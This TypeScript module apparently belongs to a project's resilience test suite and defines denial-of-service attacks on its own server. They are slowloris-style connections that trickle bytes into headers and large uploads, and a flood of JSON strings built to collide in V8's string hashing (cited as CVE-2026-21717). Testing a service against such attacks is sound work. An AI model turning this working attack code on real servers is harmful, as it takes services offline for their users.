import { setTimeout as wait } from 'node:timers/promises'
import type { Person } from '../../src/server/testing/people.ts'
import { begin, type Headers, postStorm, type Target } from './attacker.ts'
import { hangPdfs, keepReading } from './expensive-work.ts'

/** The target of the attacks, and the attackers' accounts. */
export type Spoils = Target & { accounts: Person[] }

/** Opens 300 connections that send one byte per second: headers, JSON bodies and files. */
async function holdSlowClients(spoils: Spoils): Promise<string> {
  const post = (path: string, length: number, headers: Headers = {}) =>
    begin(
      spoils,
      `POST ${path} HTTP/1.1\r\nHost: x\r\nContent-Length: ${length}\r\n${Object.entries(headers)
        .map(([name, value]) => `${name}: ${value}\r\n`)
        .join('')}\r\n`,
    )
  const sockets = Array.from({ length: 100 }, (_, n) => [
    begin(spoils, 'GET /healthz HTTP/1.1\r\nHost: x\r\nX-Slow: '),
    post('/auth/v1/signup', 60_000),
    post('/api/documents', 10_000_000, {
      ...spoils.accounts[n % spoils.accounts.length]?.headers,
      'content-type': 'multipart/form-data; boundary=x',
    }),
  ]).flat()
  for (let second = 0; second < 30; second += 1) {
    for (const socket of sockets) if (socket.writable) socket.write('x')
    await wait(1000)
  }
  const cut = sockets.filter(({ destroyed, readyState }) => destroyed || readyState !== 'open').length
  for (const socket of sockets) socket.destroy()
  return `${cut} of ${sockets.length} cut within 30 s`
}

/**
 * Posts strings whose hashes collided in V8's string table before it was seeded (CVE-2026-21717), in bodies just below
 * and above the limits.
 */
async function postCollidingJson(spoils: Spoils): Promise<string> {
  const outcomes = []
  for (const [path, bytes] of [
    ['/auth/v1/signup', 15_000],
    ['/api/verifications', 125_000],
    ['/auth/v1/signup', 960_000],
  ] as const) {
    const length = Math.floor(bytes / 13)
    const body = JSON.stringify(Array.from({ length }, (_, n) => String(1_000_000 + n * 2 ** 14)))
    const headers = { 'content-type': 'application/json', ...spoils.accounts[0]?.headers }
    outcomes.push(await postStorm(spoils, 1000, { path, headers, body }))
  }
  return outcomes.join('; ')
}

export const attacks: Record<string, (spoils: Spoils) => Promise<string>> = {
  'slow clients': holdSlowClients,
  'colliding JSON': postCollidingJson,
  'hanging PDFs': hangPdfs,
  'busy readings': keepReading,
}
